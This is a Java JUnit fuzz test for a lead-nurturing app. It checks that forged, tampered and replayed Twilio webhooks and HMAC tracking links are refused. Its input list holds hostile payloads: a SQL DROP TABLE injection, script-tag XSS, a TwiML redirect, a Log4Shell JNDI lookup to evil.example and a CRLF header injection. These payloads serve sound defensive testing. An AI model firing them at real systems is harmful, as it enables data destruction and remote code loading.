package io.nurtureflow.hostile;

import java.net.URLEncoder;
import java.net.http.HttpRequest;
import java.nio.charset.StandardCharsets;
import java.security.GeneralSecurityException;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import java.util.UUID;
import java.util.stream.Collectors;

import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;

import com.github.tomakehurst.wiremock.client.WireMock;
import com.github.tomakehurst.wiremock.stubbing.StubMapping;
import io.nurtureflow.support.Api;
import io.nurtureflow.support.Api.Response;
import io.nurtureflow.support.JourneyDriver;
import io.nurtureflow.support.LiveChannels;
import io.nurtureflow.support.LiveChannelsTest;
import io.nurtureflow.tracking.TrackingLinks;
import io.nurtureflow.tracking.TrackingTokens;
import org.camunda.bpm.engine.HistoryService;
import org.camunda.bpm.engine.ManagementService;
import org.camunda.bpm.engine.RuntimeService;
import org.camunda.bpm.engine.TaskService;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.simple.JdbcClient;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * The public endpoints that act on a signature instead of a login, with Twilio and the tracking
 * secret configured: Twilio's inbound SMS and status webhooks (Twilio's signature) and the
 * tracking links, whose click, open and one-click unsubscribe act on a lead (our own HMAC token).
 * Forged, tampered and replayed requests change nothing, and signed requests full of garbage
 * (which only Twilio, or a link we made, could send) are still answered without a server error.
 * The inbound email endpoint is no part of this: it sits under {@code /api} and needs an API key.
 */
@LiveChannelsTest
class WebhookFuzzingTest {

	private static final long SEED = Long.getLong("fuzz.seed", 20_250_611L);

	private static final String PUBLIC_URL = "https://nurture.example.com";

	private static final String SMS = "/webhooks/twilio/sms";

	private static final String STATUS = "/webhooks/twilio/status";

	private static final String TWILIO_MESSAGES = "/2010-04-01/Accounts/" + LiveChannels.TWILIO_ACCOUNT
			+ "/Messages.json";

	/** A Tuesday, 10:00 in New York, the leads' zone: inside the SMS hours, so an acknowledgement SMS goes out. */
	private static final Instant SMS_HOURS = Instant.parse("2030-06-04T14:00:00Z");

	private static final List<String> NASTY = List.of("' OR 1=1; DROP TABLE lead;--", "<script>alert(1)</script>",
			"]]><Response><Redirect>https://evil.example</Redirect></Response>", "${jndi:ldap://evil.example/x}",
			"مرحبا", "你好", "👩‍💻", "a\u0000b", "a\u0001b", "line\nbreak", "", " ", "+", "+0", "+999999999999999999",
			"null", "x".repeat(3_000), "STOP\u0000", "S T O P", "ＳＴＯＰ");

	@LocalServerPort
	int port;

	@Autowired
	JdbcClient jdbc;

	@Autowired
	TrackingLinks links;

	@Autowired
	TrackingTokens tokens;

	@Autowired
	RuntimeService runtime;

	@Autowired
	ManagementService management;

	@Autowired
	TaskService tasks;

	@Autowired
	HistoryService history;

	private Api api;

	private Random random;

	private int clients;

	@BeforeEach
	void connect() {
		this.api = new Api(this.port);
		this.random = new Random(SEED);
	}

	@AfterEach
	void realTime() {
		JourneyDriver.resetClock();
	}

	@Test
	void forgedAndTamperedInboundSmsChangeNothing() {
		String phone = "+1202555" + (1000 + this.random.nextInt(8999));
		String lead = lead(phone);

		assertForgeriesChangeNothing(lead, SMS, inboundSms(phone, "STOP", sid()), "Body", "START", "From");
	}

	/** The touch's own message id, as failed: taken in, it would fail the touch and count against the lead. */
	@Test
	void forgedAndTamperedStatusCallbacksChangeNothing() {
		String sid = sid();
		String lead = leadReachedBySms("+1202555" + (1000 + this.random.nextInt(8999)), sid);

		assertForgeriesChangeNothing(lead, STATUS, statusCallback(sid, "undelivered", "30003"), "MessageStatus",
				"delivered", "MessageSid");
	}

	/**
	 * Each kind of forgery of a genuine webhook is refused (403) and changes nothing; the genuine
	 * request, sent last, is taken and changes what the snapshot holds, so the snapshot would
	 * have shown a forgery taken in.
	 */
	private void assertForgeriesChangeNothing(String lead, String path, Map<String, String> params, String field,
			String tamperedValue, String queryField) {
		String otherPath = path.equals(SMS) ? STATUS : SMS;
		String signature = sign(PUBLIC_URL + path, params, LiveChannels.TWILIO_TOKEN);
		Map<String, Object> before = state(lead);
		for (int i = 0; i < 100; i++) {
			Response answer = switch (i % 10) {
				case 0 -> post(path, params, sign(PUBLIC_URL + path, params, "not-the-token"));
				case 1 -> post(path, params, sign(PUBLIC_URL + otherPath, params, LiveChannels.TWILIO_TOKEN));
				case 2 -> post(path, with(params, field, tamperedValue), signature);
				case 3 -> post(path, with(params, "Extra", "1"), signature);
				case 4 -> post(path + "?" + queryField + "=" + encode(params.get(queryField)), params, signature);
				case 5 -> post(path, params, signature.toLowerCase());
				case 6 -> post(path, params, signature.substring(0, signature.length() - 2));
				case 7 -> post(path, params, null);
				case 8 -> post(path, params, Base64.getEncoder().encodeToString(new byte[20]));
				default -> post(path, params, sign("http://nurture.example.com" + path, params, LiveChannels.TWILIO_TOKEN));
			};
			assertThat(answer.status()).as("%s forgery %d", path, i % 10).isEqualTo(403);
			assertThat(answer.header("Content-Type")).startsWith("application/problem+json");
		}
		assertThat(state(lead)).isEqualTo(before);

		assertThat(post(path, params, signature).status()).as("the genuine request").isBetween(200, 299);
		assertThat(state(lead)).isNotEqualTo(before);
	}

	/**
	 * A tracking token is a payload and its HMAC; each kind of forgery of the lead's genuine click,
	 * open and unsubscribe tokens gets the "link not valid" page (404) and changes nothing, a
	 * forged click leads nowhere, and the genuine links, followed last, change what the snapshot holds.
	 */
	@Test
	void forgedAndTamperedTrackingLinksChangeNothing() {
		String lead = leadReachedBySms("+1202555" + (1000 + this.random.nextInt(8999)), sid());
		UUID id = UUID.fromString(lead);
		long touch = this.jdbc.sql("select min(id) from touch where lead_id = ?").param(id).query(Long.class).single();
		Map<String, String> genuine = new LinkedHashMap<>();
		genuine.put("c", path(this.links.click(touch, id, "https://nurtureflow.io/guide")));
		genuine.put("o", path(this.links.openPixel(touch, id)));
		genuine.put("u", path(this.links.unsubscribe(touch, id)));
		assertThat(trackingToken("UNSUBSCRIBE|" + touch + "|" + id + "|", LiveChannels.TRACKING_SECRET))
			.as("tokens are made here as the product makes them").isEqualTo(token(genuine.get("u")));
		Map<String, Object> before = state(lead);
		for (String kind : genuine.keySet()) {
			String token = token(genuine.get(kind));
			for (String forged : forgeries(token, token(genuine.get(kind.equals("c") ? "u" : "c")))) {
				for (String method : kind.equals("u") ? List.of("GET", "POST") : List.of("GET")) {
					Response answer = track(method, "/t/" + kind + "/" + forged);
					assertThat(answer.status()).as("%s /t/%s/%s", method, kind, forged).isEqualTo(404);
					assertThat(answer.header("Location")).as("a forged link leads nowhere").isNull();
				}
			}
		}
		assertThat(state(lead)).isEqualTo(before);

		assertThat(track("GET", genuine.get("c")).header("Location")).isEqualTo("https://nurtureflow.io/guide");
		assertThat(track("GET", genuine.get("o")).status()).isEqualTo(200);
		assertThat(track("POST", genuine.get("u")).status()).isEqualTo(200);
		Map<String, Object> after = state(lead);
		assertThat(after.get("consent")).isNotEqualTo(before.get("consent"));
		assertThat((Long) after.get("engagement")).isEqualTo((Long) before.get("engagement") + 3);
	}

	@Test
	void aQueryStringWithABrokenEscapeIsForbiddenNotAServerError() {
		String phone = "+1202555" + (1000 + this.random.nextInt(8999));
		String lead = lead(phone);
		Map<String, Object> before = state(lead);
		byte[] body = ("From=" + encode(phone) + "&Body=STOP&MessageSid=" + sid()).getBytes(StandardCharsets.UTF_8);

		for (String query : List.of("?%zz=1", "?%", "?From=%2", "?a=1&%E0%A4%A=2")) {
			RawHttp.Response answer = RawHttp.send(this.port, String.join("\r\n", "POST " + SMS + query + " HTTP/1.1",
					"Host: localhost", "X-Twilio-Signature: " + Base64.getEncoder().encodeToString(new byte[20]),
					"Content-Type: application/x-www-form-urlencoded", "Content-Length: " + body.length,
					"Connection: close"), body);

			assertThat(answer.status()).as(query).isEqualTo(403);
			assertThat(answer.header("Content-Type")).startsWith("application/problem+json");
		}
		assertThat(state(lead)).isEqualTo(before);
	}

	@Test
	void aReplayedWebhookIsOneEvent() {
		String phone = "+1202555" + (1000 + this.random.nextInt(8999));
		String lead = lead(phone);
		Map<String, String> stop = inboundSms(phone, "STOP", sid());
		String signature = sign(PUBLIC_URL + SMS, stop, LiveChannels.TWILIO_TOKEN);
		for (int i = 0; i < 20; i++) {
			assertThat(post(SMS, stop, signature).status()).isEqualTo(200);
		}
		assertThat(this.jdbc.sql("select count(*) from engagement_event where lead_id = ?")
			.param(UUID.fromString(lead))
			.query(Long.class)
			.single()).isEqualTo(1);
		assertThat(this.jdbc.sql("select count(*) from consent where lead_id = ? and channel = 'SMS' and not granted")
			.param(UUID.fromString(lead))
			.query(Long.class)
			.single()).isEqualTo(1);
	}

	@Test
	void signedGarbageIsAnsweredWithoutAServerError() {
		String phone = "+1202555" + (1000 + this.random.nextInt(8999));
		lead(phone);
		List<String> wrong = new ArrayList<>();
		for (int i = 0; i < 300; i++) {
			boolean sms = this.random.nextBoolean();
			Map<String, String> params = sms
					? inboundSms(pick(List.of(phone, pick(NASTY), "+1 202 555 0100")), pick(NASTY), pickSid())
					: statusCallback(pickSid(), pick(List.of("delivered", "failed", "undelivered", pick(NASTY))),
							pick(List.of("30003", pick(NASTY))));
			if (this.random.nextInt(5) == 0) {
				params.remove(pick(List.copyOf(params.keySet())));
			}
			String path = sms ? SMS : STATUS;
			Response answer = post(path, params, sign(PUBLIC_URL + path, params, LiveChannels.TWILIO_TOKEN));
			if (answer.status() >= 500 || (answer.status() >= 400
					&& !String.valueOf(answer.header("Content-Type")).startsWith("application/problem+json"))) {
				wrong.add(path + " " + params + " -> " + answer.status() + " " + answer.body());
			}
			if (sms && answer.status() == 200) {
				assertThat(answer.body()).as("TwiML stays well-formed").startsWith("<Response").doesNotContain("<Redirect");
			}
		}
		assertThat(wrong).isEmpty();
	}

	/** A genuine token changed in each way a forger might try; {@code another} is a genuine one of another kind. */
	private static List<String> forgeries(String token, String another) {
		String payload = token.substring(0, token.indexOf('.'));
		String mac = token.substring(token.indexOf('.') + 1);
		String claim = new String(Base64.getUrlDecoder().decode(payload), StandardCharsets.UTF_8);
		String otherLead = claim.replaceAll("[0-9a-f]{8}-[0-9a-f-]{27}", UUID.randomUUID().toString());
		String otherTarget = claim.replace("https://nurtureflow.io/guide", "https://evil.example/");
		List<String> forged = List.of(trackingToken(claim, "not-the-secret"),
				trackingToken(claim, LiveChannels.TWILIO_TOKEN), base64(utf8(otherLead)) + "." + mac,
				base64(utf8(otherTarget)) + "." + mac, payload + "." + another.substring(another.indexOf('.') + 1),
				token + "A", payload + "." + mac.toLowerCase(), payload + "." + mac.substring(0, mac.length() - 2),
				payload + ".", payload, payload + "." + base64(new byte[32]), mac + "." + payload, another);
		// a change with nothing to change (no target in an open token) is the genuine token
		return forged.stream().filter((f) -> !f.equals(token)).toList();
	}

	/** Tokens only we could have made, for leads, touches and targets that make no sense. */
	@Test
	void signedTrackingGarbageIsAnsweredWithoutAServerError() {
		UUID lead = UUID.fromString(lead("+1202555" + (1000 + this.random.nextInt(8999))));
		List<String> targets = new ArrayList<>(NASTY);
		targets.addAll(List.of("https://nurtureflow.io/ok", "javascript:alert(1)", "http://", "https://例え.jp/",
				"https://evil.example/\r\nSet-Cookie: a=b", "https://nurtureflow.io/a b", " https://nurtureflow.io/padded ",
				"https://" + "x".repeat(1_000) + ".example/"));
		List<String> wrong = new ArrayList<>();
		for (int i = 0; i < 200; i++) {
			TrackingTokens.Purpose purpose = pick(List.of(TrackingTokens.Purpose.values()));
			String url = (purpose == TrackingTokens.Purpose.CLICK) ? pick(targets) : null;
			String token = this.tokens.sign(new TrackingTokens.Claim(purpose,
					pick(List.of(0L, -1L, Long.MAX_VALUE, (long) this.random.nextInt(1_000_000))),
					pick(List.of(lead, UUID.randomUUID())), url));
			String kind = pick(List.of("c", "o", "u", purpose.name().substring(0, 1).toLowerCase()));
			String method = kind.equals("u") ? pick(List.of("GET", "POST")) : "GET";
			Response answer = track(method, "/t/" + kind + "/" + token);
			String location = answer.header("Location");
			if (answer.status() >= 500 || (answer.status() == 302 && !location.equals(url.trim()))) {
				wrong.add(method + " /t/" + kind + " " + purpose + " " + url + " -> " + answer.status() + " " + location);
			}
		}
		assertThat(wrong).isEmpty();
	}

	private Response post(String path, Map<String, String> params, String signature) {
		String body = params.entrySet()
			.stream()
			.map((p) -> encode(p.getKey()) + "=" + encode(p.getValue()))
			.collect(Collectors.joining("&"));
		return this.api.send(this.api.request(path, "X-Api-Key", null, "X-Twilio-Signature", signature,
				"X-Forwarded-For", "172.16." + (++this.clients / 256) + "." + (this.clients % 256))
			.header("Content-Type", "application/x-www-form-urlencoded")
			.POST(HttpRequest.BodyPublishers.ofString(body)));
	}

	/** A tracking link's path, sent with a client address of its own as every request here is. */
	private Response track(String method, String path) {
		HttpRequest.BodyPublisher body = method.equals("POST")
				? HttpRequest.BodyPublishers.ofString("List-Unsubscribe=One-Click") : HttpRequest.BodyPublishers.noBody();
		return this.api.send(this.api.request(path, "X-Api-Key", null, "X-Forwarded-For",
				"172.16." + (++this.clients / 256) + "." + (this.clients % 256))
			.header("Content-Type", "application/x-www-form-urlencoded")
			.method(method, body));
	}

	/**
	 * A lead whose acknowledgement went out by email (to GreenMail) and by SMS (to WireMock as
	 * Twilio, which names the message {@code sid}), so that its touches have something to change.
	 */
	private String leadReachedBySms(String phone, String sid) {
		StubMapping twilio = LiveChannels.twilio()
			.stubFor(WireMock.post(WireMock.urlPathEqualTo(TWILIO_MESSAGES))
				.willReturn(WireMock.aResponse()
					.withStatus(201)
					.withHeader("Content-Type", "application/json")
					.withBody("{\"sid\":\"" + sid + "\",\"status\":\"queued\"}")));
		JourneyDriver.startClockAt(SMS_HOURS);
		try {
			Response created = this.api.postJson("/api/leads", "{\"email\":\"webhook-" + UUID.randomUUID()
					+ "@example.com\",\"phone\":\"" + phone
					+ "\",\"timeZone\":\"America/New_York\",\"consent\":{\"email\":true,\"sms\":true}}");
			assertThat(created.status()).as(created.body()).isEqualTo(201);
			UUID lead = UUID.fromString(created.json().get("id").asText());
			new JourneyDriver(this.runtime, this.management, this.tasks, this.history).settle(lead);
			assertThat(this.jdbc.sql("select status from touch where lead_id = ? and provider_id = ?")
				.params(lead, sid)
				.query(String.class)
				.list()).as("the acknowledgement SMS went out as %s", sid).containsExactly("SENT");
			return lead.toString();
		}
		finally {
			LiveChannels.twilio().removeStub(twilio);
		}
	}

	private String lead(String phone) {
		Response created = this.api.postJson("/api/leads", "{\"email\":\"webhook-" + UUID.randomUUID()
				+ "@example.com\",\"phone\":\"" + phone + "\",\"consent\":{\"email\":true,\"sms\":true}}");
		assertThat(created.status()).as(created.body()).isEqualTo(201);
		return created.json().get("id").asText();
	}

	private Map<String, Object> state(String lead) {
		Map<String, Object> state = new LinkedHashMap<>();
		UUID id = UUID.fromString(lead);
		state.put("consent", this.jdbc.sql("select consent_email, consent_sms from lead where id = ?").param(id)
			.query()
			.singleRow());
		state.put("consent changes", this.jdbc.sql("select count(*) from consent where lead_id = ?").param(id)
			.query(Long.class)
			.single());
		state.put("engagement", this.jdbc.sql("select count(*) from engagement_event").query(Long.class).single());
		state.put("touches", this.jdbc.sql("select count(*) from touch").query(Long.class).single());
		state.put("its touches", this.jdbc.sql("select channel, status, reason from touch where lead_id = ? order by id")
			.param(id)
			.query()
			.listOfRows());
		state.put("failed touches", this.jdbc.sql("select failed_touches from lead where id = ?").param(id)
			.query(Integer.class)
			.single());
		return state;
	}

	private String pickSid() {
		return pick(List.of(sid(), sid(), "SM" + "x".repeat(300), pick(NASTY)));
	}

	private <T> T pick(List<T> options) {
		return options.get(this.random.nextInt(options.size()));
	}

	private static Map<String, String> with(Map<String, String> params, String name, String value) {
		Map<String, String> changed = new LinkedHashMap<>(params);
		changed.put(name, value);
		return changed;
	}

	private static String sid() {
		return "SM" + UUID.randomUUID().toString().replace("-", "");
	}

	private static String encode(String text) {
		return URLEncoder.encode(text, StandardCharsets.UTF_8);
	}

	private static Map<String, String> inboundSms(String from, String body, String messageSid) {
		Map<String, String> params = new LinkedHashMap<>();
		params.put("SmsMessageSid", messageSid);
		params.put("NumMedia", "0");
		params.put("Body", body);
		params.put("To", LiveChannels.TWILIO_FROM);
		params.put("MessageSid", messageSid);
		params.put("AccountSid", LiveChannels.TWILIO_ACCOUNT);
		params.put("From", from);
		return params;
	}

	private static Map<String, String> statusCallback(String messageSid, String status, String errorCode) {
		Map<String, String> params = new LinkedHashMap<>();
		params.put("MessageStatus", status);
		params.put("MessageSid", messageSid);
		params.put("AccountSid", LiveChannels.TWILIO_ACCOUNT);
		params.put("ErrorCode", errorCode);
		return params;
	}

	private static String path(String link) {
		return link.substring(link.indexOf("/t/"));
	}

	private static String token(String path) {
		return path.substring("/t/c/".length());
	}

	/** A tracking token as the product makes one (payload, dot, HMAC-SHA256 of it), under any secret. */
	private static String trackingToken(String claim, String secret) {
		try {
			Mac mac = Mac.getInstance("HmacSHA256");
			mac.init(new SecretKeySpec(utf8(secret), "HmacSHA256"));
			return base64(utf8(claim)) + "." + base64(mac.doFinal(utf8(claim)));
		}
		catch (GeneralSecurityException ex) {
			throw new IllegalStateException(ex);
		}
	}

	private static String base64(byte[] bytes) {
		return Base64.getUrlEncoder().withoutPadding().encodeToString(bytes);
	}

	private static byte[] utf8(String text) {
		return text.getBytes(StandardCharsets.UTF_8);
	}

	/** Twilio's signature: HMAC-SHA1 of the URL and each parameter's name and value, sorted by name. */
	private static String sign(String url, Map<String, String> params, String token) {
		StringBuilder data = new StringBuilder(url);
		new TreeMap<>(params).forEach((name, value) -> data.append(name).append(value));
		try {
			Mac mac = Mac.getInstance("HmacSHA1");
			mac.init(new SecretKeySpec(token.getBytes(StandardCharsets.UTF_8), "HmacSHA1"));
			return Base64.getEncoder().encodeToString(mac.doFinal(data.toString().getBytes(StandardCharsets.UTF_8)));
		}
		catch (GeneralSecurityException ex) {
			throw new IllegalStateException(ex);
		}
	}

}
